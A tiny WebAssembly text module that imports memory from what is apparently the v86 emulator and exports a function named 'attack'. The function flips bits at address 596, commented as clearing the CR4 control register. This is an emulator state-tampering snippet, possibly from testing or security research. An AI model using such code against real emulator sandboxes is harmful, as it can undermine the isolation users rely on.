;; CR4 cleared.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (i32.store (i32.const 596) (i32.xor (i32.load (i32.const 596)) (i32.const 0xff))))
